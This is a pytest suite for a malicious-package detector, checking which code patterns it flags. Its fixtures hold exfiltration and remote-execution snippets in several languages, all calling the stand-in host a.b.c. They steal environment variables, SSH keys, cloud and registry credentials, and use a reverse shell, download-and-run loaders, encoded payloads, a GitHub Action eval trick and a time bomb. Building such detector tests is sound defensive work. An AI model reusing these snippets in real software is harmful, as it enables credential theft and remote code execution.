"""Classes of technique that somebody else's simulants were missed for: each in a form of its own."""

import base64
import lzma
import zlib

import pytest
from reading import package, seen, short

from biopsy.model.behaviour import When

SENDS = 'const q = require("https").request({hostname: "a.b.c", method: "POST"}); q.end(JSON.stringify(process.env));'
B64 = base64.b64encode(SENDS.encode()).decode()
ENV = "code.flow env:* > network"
RUNS = "code.flow network > execution"

SAID = [
    ("x.js", f"function un(t) {{ return Buffer.from(t.raw.join(''), 'base64').toString(); }}\n(0, eval)(un`{B64}`);", ENV),
    ("x.js", "const m = new Proxy({}, { get: (t, k) => require(k) }); m.https.get('https://a.b.c/?' + m.process.env.NPM_TOKEN)",
     "net.http GET https://a.b.c/??"),
    ("x.js", ("async function* walk(d) { for (const n of fs.readdirSync(d)) yield d + '/' + n; }\nconst fs = require('fs');\n"
     "(async () => { for await (const p of walk(require('os').homedir() + '/.ssh')) fetch('https://a.b.c', {method: 'POST', body: fs.readFileSync(p)}); })()"),
     "code.flow file:~/.ssh/? > network"),
    ("x.js", ("var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new P(() => g.apply(t, a).next()); };\n"
     "class A { f() { return __awaiter(this, void 0, void 0, function* () { return require('fs').readFileSync('/root/.npmrc'); }); }\n"
     "g() { return __awaiter(this, void 0, void 0, function* () { fetch('https://a.b.c/' + (yield this.f())); }); } }\nnew A().g()"),
     "code.flow file:/root/.npmrc > network"),
    ("x.js", f"const p = require('os').tmpdir() + '/c.js'; require('fs').writeFileSync(p, Buffer.from('{B64}', 'base64')); require(p)", ENV),
    ("x.js", "require('https').get('https://a.b.c/m.js', r => { const f = require('fs').createWriteStream('/tmp/m.js'); r.pipe(f); f.on('close', () => require('/tmp/m.js')) })",
     "code.eval import /tmp/m.js"),
    ("x.js", "require('fs').appendFileSync(require.resolve('express/index.js'), 'x')", "file.write ?/node_modules/express/index.js"),
    ("x.js", "const t = require('child_process').spawn('tar', ['c', '-C', require('os').homedir(), '.ssh']); const q = require('https').request('https://a.b.c', {method: 'PUT'}); t.stdout.pipe(q)",
     "code.flow file:~/.ssh > network"),
    ("x.py", "import threading, os\nclass T(threading.Thread):\n    def run(self):\n        os.system('id')\nT().start()", "process.exec id"),
    ("x.py", "import urllib.request, sys\nurllib.request.urlretrieve('https://a.b.c/m.py', '/tmp/x/mod_m.py')\nsys.path.insert(0, '/tmp/x')\nimport mod_m", RUNS),
    ("x.py", "import requests, mmap, ctypes\nc = requests.get('https://a.b.c').content\nb = mmap.mmap(-1, len(c))\nb.write(c)\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()", RUNS),
    ("x.py", "t = str.maketrans('bcd', 'abc')\nexec('jnqpsu pt'.translate(str.maketrans('jnqpsut', 'imports')))", "code.eval exec"),
    ("x.py", "import lzma, binascii, os\nd = lzma.LZMADecompressor()\nexec(d.decompress(binascii.a2b_hex(open('x').read())))", "code.decode lzma"),
    ("x.go", 'package a\nfunc init() { c, _ := net.Dial("tcp", "a.b.c:4"); s := bufio.NewScanner(c); exec.Command("/bin/sh", "-c", s.Text()).Run() }',
     "code.flow network > command"),
    ("x.go", 'package a\nfunc init() { r, _ := http.Get("http://a.b.c"); c := exec.Command("bash", "-s"); c.Stdin = r.Body; c.Run() }', RUNS),
    ("x.rb", "t = File.read(%w[.aws credentials].inject(Dir.home) { |a, b| File.join(a, b) })\nNet::HTTP.post(URI('http://a.b.c'), t)",
     "code.flow file:~/.aws/credentials > network"),
    ("x.rs", 'fn f() { let d = env::var("CARGO_HOME").map(PathBuf::from).unwrap_or_else(|_| PathBuf::from("/x")); let t = fs::read_to_string(d.join("credentials.toml")).unwrap(); ureq::post("http://a.b.c").send_string(&t); }',
     "code.flow file:~/.cargo/credentials.toml > network"),
    ("x.php", "<?php file_get_contents('http://a.b.c', false, stream_context_create(['http' => ['method' => 'PUT', 'content' => json_encode(getenv())]]));",
     "net.http PUT http://a.b.c"),
    ("x.php", "<?php function f($composer) { $t = $composer->getConfig()->get('github-oauth'); file_get_contents('http://a.b.c/' . json_encode($t)); }",
     "code.flow file:~/.composer/auth.json > network"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "code", "expected"), SAID)
def test_what_was_missed_is_told(path: str, code: str, expected: str) -> None:
    assert expected in short(seen(code, path))


ENCODED = base64.b64encode(b'echo hi there; curl -s https://a.b.c/d -d "$(env)"').decode()
DEFLATED = base64.b64encode(zlib.compress(SENDS.encode())).decode()
PYTHON = b"import os, requests\nrequests.post('https://a.b.c', json=dict(os.environ))"
BACK = base64.b64encode(SENDS.encode()[::-1]).decode()
WHOLE = lzma.compress(PYTHON).hex()
SMALL = lzma.compress(PYTHON, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": 6}]).hex()
ACTION = f"""runs:
  using: composite
  steps:
    - shell: bash
      run: echo "SETUP={ENCODED}" >> "$GITHUB_ENV"
    - shell: bash
      run: eval "$(printf %s "$SETUP" | base64 -d)"
"""
LATER = [
    ("x.js", "var __importStar = (this && this.__importStar) || function (m) { var r = {}; for (var k in m) r[k] = m[k]; return r; };\nconst cp = __importStar(require('child_process')); cp.exec('id')",
     "process.exec id"),
    ("x.js", f"const p = process.env.RUNNER_TEMP + '/s.sh'; require('fs').writeFileSync(p, Buffer.from('{ENCODED}', 'base64')); require('@actions/exec').exec('bash ' + p)", ENV),
    ("x.ps1", "$x = -join ([char[]](98,99) | % { [char]([int]$_ -bxor 1) })\nStart-Process $x", "process.exec cb"),
    ("x.ps1", ".($env:ComSpec[4,24,25] -join '') 'Start-Process b'", "process.exec b"),
    ("X.java", 'class X { static { Path p = Files.createTempFile("a", "b"); try (InputStream in = new URL("http://a.b.c").openStream()) { Files.copy(in, p); } new ProcessBuilder(p.toString()).start(); } }', RUNS),
    ("action.yml", ACTION, ENV),
    ("x.js", f"const M = require('module'); const m = new M('x'); m._compile(require('os').EOL ? Buffer.from('{BACK}', 'base64').reverse().toString() : '', 'x')", ENV),
    ("x.py", f"import lzma, binascii\neval('exec')(lzma.decompress(binascii.a2b_hex('{WHOLE}')))", ENV),
    ("x.js", f"require('zlib').inflate(Buffer.from('{DEFLATED}', 'base64'), (e, out) => new (require('module'))('x')._compile(out.toString(), 'x'))", ENV),
    ("x.py", f"from lzma import *\nfrom binascii import *\nexec(decompress(a2b_hex('{SMALL}'), format=FORMAT_RAW))", ENV),
]  # fmt: skip


@pytest.mark.parametrize(("path", "code", "expected"), LATER)
def test_what_was_missed_in_a_second_look_is_told(path: str, code: str, expected: str) -> None:
    assert any(b.startswith(f"{expected} @") and b.endswith("(import)") for b in seen(code, path))


def test_a_class_is_found_in_the_file_of_its_name_and_does_what_it_does_when_it_is_called() -> None:
    files = {
        "src/Plugin.php": "<?php namespace T; class Plugin { function activate() { (new Stage())->go('id'); } }",
        "src/Stage.php": "<?php namespace T; class Stage { function go($c) { exec($c); } }",
    }
    moments = {"src/Plugin.php": When.INSTALL, "src/Stage.php": When.CALL}
    assert "process.exec id @ src/Stage.php:1 (install)" in package(files, moments)


def test_what_listens_to_an_installer_is_called_by_it() -> None:
    code = "<?php class P implements EventSubscriberInterface { function warm() { exec('id'); } }"
    assert "process.exec id @ src/P.php:1 (install)" in seen(code, "src/P.php", When.INSTALL)


def test_what_stands_among_the_constructors_of_a_library_runs_when_it_is_loaded() -> None:
    code = '#[link_section = ".init_array"]\nstatic A: extern "C" fn() = a;\nextern "C" fn a() { Command::new("id").spawn(); }'
    assert "process.exec id @ src/lib.rs:3 (import)" in seen(code, "src/lib.rs", When.CALL)


@pytest.mark.parametrize(
    ("code", "wrong"),
    [
        ("const f = require.resolve('fs')\nrequire('fs').readFileSync(f)", "node_modules"),
        ("const s = String.raw`a`; require('child_process').exec(s)", "?"),
        ("require('child_process').exec(`curl https://a.b.c/$(uname -s)-$(uname -m).tgz`)", "host > network"),
        ("function* g() { yield 1; }\nfor (const x of g()) fetch('https://a.b.c/' + x)", "code.flow"),
    ],
)
def test_what_is_harmless_is_not_told_for_it(code: str, wrong: str) -> None:
    assert not any(wrong in b for b in short(seen(code, "x.js")))


@pytest.mark.parametrize(
    "code",
    [
        "using System; class A { static Random d = new Random(); void F() { if (DateTime.Now > new DateTime(2027, 8, 8) && d.Next(9) > 3) Process.GetCurrentProcess().Kill(); } }",
        "class A { void f() { if (LocalDate.now().isAfter(LocalDate.of(2027, 8, 8)) && r.nextInt(9) > 3) System.exit(1); } }",
    ],
)
def test_who_ends_a_program_by_chance_after_a_day_is_told(code: str) -> None:
    path = "A.java" if "LocalDate" in code else "A.cs"
    assert "process.does ends-by-chance after-a-day" in short(seen(code, path))


def test_a_day_or_chance_or_an_end_alone_is_not_told() -> None:
    code = "class A { void f() { if (LocalDate.now().isAfter(LocalDate.of(2027, 8, 8))) System.exit(1); } }"
    assert "process.does ends-by-chance after-a-day" not in short(seen(code, "A.java"))


def test_a_package_that_finds_itself_writes_into_no_other() -> None:
    files = {
        "package.json": '{"name": "thing"}',
        "install.js": "const p = require('path'); require('fs').writeFileSync(p.join(p.dirname(require.resolve('thing')), 'a', 'package.json'), '{}')",
    }
    assert not any("node_modules" in b for b in package(files))


def test_text_beside_the_module_is_known_through_json() -> None:
    files = {
        "x.json": f'"{B64}"',
        "lib/x.js": "const t = JSON.parse(require('fs').readFileSync(__dirname + '/../x.json', 'utf8')); new Function('require', Buffer.from(t, 'base64').toString())(require)",
    }
    assert f"{ENV} @ lib/x.js:1 (import)" in package(files)


TOKEN = "<?php function f($composer) { $t = $composer->getConfig()->get('github-oauth'); "


@pytest.mark.parametrize(
    ("code", "told"),
    [
        ("file_get_contents('http://a.b.c', false, stream_context_create(['http' => ['method' => 'POST', 'header' => 'Authorization: ' . $t]])); }", False),
        ("$c = curl_init('http://a.b.c'); curl_setopt($c, CURLOPT_HTTPHEADER, ['Authorization: token ' . $t]); curl_exec($c); }", False),
        ("file_get_contents('http://a.b.c', false, stream_context_create(['http' => ['method' => 'POST', 'content' => $t]])); }", True),
        ("$c = curl_init('http://a.b.c'); curl_setopt($c, CURLOPT_POSTFIELDS, $t); curl_exec($c); }", True),
    ],
)  # fmt: skip
def test_composers_token_signs_in_in_a_header_and_is_taken_in_a_body(code: str, told: bool) -> None:
    assert ("code.flow file:~/.composer/auth.json > network" in short(seen(TOKEN + code, "x.php"))) is told


def test_bytes_beside_a_file_of_ruby_are_read_as_bytes() -> None:
    hidden = zlib.compress(b"Net::HTTP.post(URI('http://a.b.c'), ENV.to_h.to_json) # and some more words")
    files = {
        "lib/data/m.bin": hidden,
        "lib/x.rb": "instance_eval(Zlib::Inflate.inflate(File.binread(File.expand_path('data/m.bin', __dir__))))",
    }
    assert f"{ENV} @ lib/x.rb:1 (import)" in package(files)
